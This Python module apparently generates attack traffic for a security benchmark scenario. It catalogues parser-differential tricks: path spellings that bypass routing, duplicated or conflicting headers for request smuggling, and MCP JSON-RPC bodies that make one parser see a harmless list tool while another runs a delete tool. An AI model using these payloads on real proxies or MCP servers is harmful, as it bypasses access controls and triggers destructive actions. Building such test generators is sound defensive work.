"""S7: requests that two parsers read differently. Each chain looks around and then tries one trick."""

import json

from bench.scenarios.chain import ATTACK, Chain
from bench.scenarios.phases import jewels, look_around
from bench.scenarios.timing import fast
from bench.scenarios.wording import VERBS, mcp_post


def s7(site, rng, number, start):
    """One trick; all of them take turns, those with bodies only where the catalogue knows an MCP server."""
    tricks = [*PATHS, *HEADERS]
    if site.knows("wiki", "delete"):
        tricks += BODIES
    chain = Chain(site, rng, f"S7-{number:02}", ATTACK, start, pace=fast)
    return [_smuggle(chain, tricks[(number - 1) % len(tricks)])]


def _smuggle(chain, trick):
    agent = chain.site.agent(f"{chain.rng.getrandbits(48):x}")
    yield from look_around(chain, agent, chain.rng.randrange(2, 5))
    for _ in range(2):
        if trick in PATHS:
            target = _plain(chain)
            target = target._replace(path=PATHS[trick](target.path.partition("?")[0]))
        elif trick in HEADERS:
            target = HEADERS[trick](_plain(chain), agent)
        else:
            target = _call(chain, *BODIES[trick])
        yield chain.step(agent, target, stage="impact", objective=True)


def _plain(chain):
    """What is really wanted, outside of MCP."""
    services = chain.site.services
    return chain.ask(*chain.rng.choice([pair for pair in jewels(chain.site) if services[pair[0]].style != "mcp"]))


def _cut(path):
    head, _, last = path.rpartition("/")
    return head, last


def _escaped(character):
    return f"%{ord(character):02x}"


def _at_last(mark):
    """The last slash replaced."""
    return lambda path: mark.join(_cut(path))


PATHS = {
    "encoded-slash": _at_last("%2f"),
    "double-slash": _at_last("//"),
    "dot-segment": _at_last("/./"),
    "dot-dot-parameter": _at_last("/x/..;/"),
    "dot-dot": lambda path: f"/healthz/..{path}",
    "encoded-dot-dot": lambda path: f"/healthz/%2e%2e{path}",
    "backslash": _at_last("\\"),
    "encoded-backslash": _at_last("%5c"),
    "overlong-slash": _at_last("%c0%af"),
    "encoded-letter": lambda path: f"{_cut(path)[0]}/{_escaped(_cut(path)[1][0])}{_cut(path)[1][1:]}",
    "encoded-twice": lambda path: f"{_cut(path)[0]}/%25{ord(_cut(path)[1][0]):02x}{_cut(path)[1][1:]}",
    "parameter": lambda path: f"{path};v=1",
    "nul": lambda path: f"{path}%00.json",
    "fragment": lambda path: f"{path}#/healthz",
    "bad-escape": lambda path: f"{path}%zz",
}
"""Spellings of a path that some upstream folds to the one that was meant."""


def _with(**headers):
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return lambda target, _: target._replace(headers={**target.headers, **named})


def _twice(target, agent):
    """Two credentials in one request, as a proxy joins them."""
    name, value = next(iter(agent.headers.items()))
    return target._replace(headers={**target.headers, name: f"{value},{value[:-4]}0000"})


def _other_host(mark):
    return lambda target, _: target._replace(host=mark.format(target.host))


HEADERS = {
    "two-credentials": _twice,
    "two-blanks": _with(authorization="Bearer  c3RvbGVuLWtleS1mcm9tLWFmYXI"),
    "basic-not-canonical": _with(authorization="Basic YTpiYmJ="),
    "method-override": lambda target, _: _with(x_http_method_override=target.method)(
        target._replace(method="GET", body=""), _
    ),
    "path-override": lambda target, _: _with(x_original_url=target.path)(target._replace(path="/healthz"), _),
    "two-types": _with(content_type="application/json,text/plain"),
    "two-lengths": _with(content_length="5,0"),
    "length-and-chunks": _with(content_length="4", transfer_encoding="chunked"),
    "host-with-name": _other_host("health@{}"),
    "two-hosts": _other_host("{},status.example"),
    "host-with-blank": _other_host("{} "),
}
"""Headers that proxies join, frameworks obey, and hosts that are read twice."""


def _rpc(call, **more):
    return {"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": call, **more}


def _text(value):
    return json.dumps(value, separators=(",", ":"))


def _named_twice(second):
    """The decoy under `name`, what is meant under a second spelling of it."""
    return lambda decoy, meant: (
        f'{{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{{"name":"{decoy}","{second}":"{meant}","arguments":{{"id":"1"}}}}}}'
    )


def _meant(decoy, meant):
    return _text(_rpc({"name": meant, "arguments": {"id": "1"}}))


def _utf16(decoy, meant):
    """UTF-16, big-endian: every other byte is NUL, which is what this text is in UTF-8."""
    return "".join(f"\0{character}" for character in _meant(decoy, meant))


def _deep(decoy, meant):
    return _text(_rpc({"name": meant, "arguments": {"id": "1"}})).replace('"1"', "[" * 300 + "]" * 300)


def _cut_off(decoy, meant):
    """The head of a body whose end, which the check does not carry, names the tool again."""
    return _text(_rpc({"name": decoy, "arguments": {"id": "1", "pad": "x" * 400}}))[:-3]


BODIES = {
    "name-twice": (_named_twice("name"), {}),
    "name-case": (_named_twice("Name"), {}),
    "name-escaped": (_named_twice("n\\u0061me"), {}),
    "name-nul": (_named_twice("name\\u0000"), {}),
    "params-folded": (
        lambda decoy, meant: _text(_rpc({"name": decoy, "arguments": {}})).replace(
            '"params"', f'"param\u017f":{{"name":"{meant}","arguments":{{}}}},"params"'
        ),
        {},
    ),
    "params-case": (lambda decoy, meant: _text(_rpc({"name": decoy, "arguments": {}}, Params={"name": meant})), {}),
    "method-twice": (
        lambda decoy, meant: _meant(decoy, meant).replace('"method"', '"method":"tools/list","method"'),
        {},
    ),
    "batch": (lambda decoy, meant: f"[{_meant(meant, decoy)},{_meant(decoy, meant)}]", {}),
    "two-values": (lambda decoy, meant: f"{_meant(meant, decoy)}\n{_meant(decoy, meant)}", {}),
    "utf-16": (_utf16, {"content-type": "application/json; charset=utf-16be"}),
    "byte-order-mark": (lambda decoy, meant: f"\ufeff{_meant(decoy, meant)}", {}),
    "lone-surrogate": (lambda decoy, meant: _meant(decoy, meant).replace('"1"', '"\\ud800"'), {}),
    "not-a-number": (lambda decoy, meant: _meant(decoy, meant).replace('"1"', "NaN"), {}),
    "too-large-number": (lambda decoy, meant: _meant(decoy, meant).replace('"1"', "1e400"), {}),
    "too-deep": (_deep, {}),
    "cut-off": (_cut_off, {"content-length": "70000"}),
    "plain-text": (_meant, {"content-type": "text/plain"}),
    "compressed": (_meant, {"content-encoding": "gzip"}),
    "header-says-other": (_meant, {"mcp-name": "", "mcp-method": "tools/call", "mcp-protocol-version": "2026-07-28"}),
}
"""Bodies in which one parser sees the harmless tool and another the one that is meant, and headers to go with them."""


def _call(chain, body, headers):
    role = chain.rng.choice(chain.site.of_style("mcp") or ["wiki"])
    service = chain.site.services[role]
    decoy, meant = (f"{VERBS[op][1]}_{service.noun}" for op in ("list", "delete"))
    more = {name: value or decoy for name, value in headers.items()}
    target = mcp_post(chain.site, service, body(decoy, meant), tool=decoy, op="delete")
    return target._replace(headers={**target.headers, **more})
